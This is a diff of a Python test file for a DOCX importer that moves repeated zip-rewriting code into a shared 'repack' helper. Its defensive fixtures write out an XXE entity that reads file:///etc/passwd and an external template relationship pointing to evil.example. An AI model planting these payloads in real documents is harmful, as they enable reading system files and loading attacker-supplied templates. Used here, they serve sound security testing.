@@ -22,6 +22,8 @@ from vbgen.errors import VbgenWarning
 from vbgen.importer import import_source
 from vbgen.sources import open_plan
 
+from packages import repack
+
 W = nsdecls("w")
 
 
@@ -151,14 +153,13 @@ def test_text_box_and_block_content_control_are_read(tmp_path):
 def test_libreoffice_style_runs_and_docm(tmp_path):
     source = plan_docx(tmp_path / "kh.docx")
     docm = tmp_path / "kh.docm"
-    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(docm, "w") as zout:
-        for info in zin.infolist():
-            data = zin.read(info)
-            if info.filename == "[Content_Types].xml":
-                data = data.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
-                                    b"application/vnd.ms-word.document.macroEnabled.main+xml")
-                assert b"macroEnabled" in data
-            zout.writestr(info, data)
+
+    def macro_enabled(parts):
+        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+            b"application/vnd.ms-word.document.macroEnabled.main+xml")
+        assert b"macroEnabled" in parts["[Content_Types].xml"]
+    repack(source, docm, macro_enabled)
     assert import_source(docm).data == import_source(source).data
 
 
@@ -193,13 +194,10 @@ def _bomb(path: Path) -> Path:
 
 
 def _xxe(src: Path, path: Path) -> Path:
-    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(path, "w") as zout:
-        for info in zin.infolist():
-            data = zin.read(info)
-            if info.filename == "word/document.xml":
-                data = data.replace(b"?>", b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
-            zout.writestr(info, data)
-    return path
+    def with_entity(parts):
+        parts["word/document.xml"] = parts["word/document.xml"].replace(
+            b"?>", b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
+    return repack(src, path, with_entity)
 
 
 def _write(path: Path, data: bytes) -> Path:
@@ -231,14 +229,13 @@ def test_hostile_files_one_line_exit_2_nothing_written(tmp_path, monkeypatch, ma
 def test_external_relationships_are_harmless(tmp_path):
     source = plan_docx(tmp_path / "kh.docx")
     linked = tmp_path / "linked.docx"
-    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(linked, "w") as zout:
-        for info in zin.infolist():
-            data = zin.read(info)
-            if info.filename == "word/_rels/document.xml.rels":
-                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.'
-                                    b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-                                    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
-            zout.writestr(info, data)
+
+    def external_template(parts):
+        rels = "word/_rels/document.xml.rels"
+        parts[rels] = parts[rels].replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.'
+                                          b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                                          b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
+    repack(source, linked, external_template)
     assert import_source(linked).data == import_source(source).data
 
 
@@ -351,18 +348,17 @@ def test_footnotes_are_kept_numbered_as_word_prints_them(tmp_path):
     footnotes = (f'<w:footnotes {W}><w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p>'
                  '</w:footnote><w:footnote w:id="7"><w:p><w:r><w:footnoteRef/></w:r><w:r><w:t xml:space="preserve">'
                  ' Theo Luật Phòng, chống thiên tai.</w:t></w:r></w:p></w:footnote></w:footnotes>').encode()
-    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(notes, "w") as zout:
-        for info in zin.infolist():
-            data = zin.read(info)
-            if info.filename == "[Content_Types].xml":
-                data = data.replace(b"</Types>", b'<Override PartName="/word/footnotes.xml" ContentType="application/'
-                                    b'vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/></Types>')
-            elif info.filename == "word/_rels/document.xml.rels":
-                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdF" Type="http://schemas.openxmlformats'
-                                    b'.org/officeDocument/2006/relationships/footnotes" Target="footnotes.xml"/>'
-                                    b"</Relationships>")
-            zout.writestr(info, data)
-        zout.writestr("word/footnotes.xml", footnotes)
+
+    def with_footnotes(parts):
+        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+            b"</Types>", b'<Override PartName="/word/footnotes.xml" ContentType="application/'
+            b'vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/></Types>')
+        rels = "word/_rels/document.xml.rels"
+        parts[rels] = parts[rels].replace(b"</Relationships>", b'<Relationship Id="rIdF" Type="http://schemas.'
+                                          b'openxmlformats.org/officeDocument/2006/relationships/footnotes" '
+                                          b'Target="footnotes.xml"/></Relationships>')
+        parts["word/footnotes.xml"] = footnotes
+    repack(source, notes, with_footnotes)
     imported = import_source(notes)
     assert imported.data["body"][-1]["text"] == "[1] Theo Luật Phòng, chống thiên tai."
     assert imported.unplaced == []
